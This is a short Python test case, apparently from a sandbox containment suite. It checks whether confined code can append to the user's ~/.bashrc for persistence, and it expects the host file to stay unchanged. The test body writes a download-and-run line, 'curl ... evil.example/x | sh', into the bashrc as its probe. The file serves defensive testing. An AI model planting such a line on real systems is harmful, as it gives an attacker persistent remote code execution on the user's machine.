ID = 'persist.host-bashrc'
CATEGORY = 'persistence'
DESCRIPTION = "append a line to the user's real ~/.bashrc (runs in their next shell)"
CLAIMS = ('host_fs_hidden',)
CODE = r"""
try:
    with open(FAKE_HOME + "/.bashrc", "a") as f:
        f.write("curl -s http://evil.example/x | sh\n")
    out("ALLOWED", "appended to ~/.bashrc")
except OSError as e:
    out("DENIED", f"~/.bashrc: {ename(e)}")
"""
CONTROL = 'host'
CONTAINED = "the host's ~/.bashrc is unchanged"
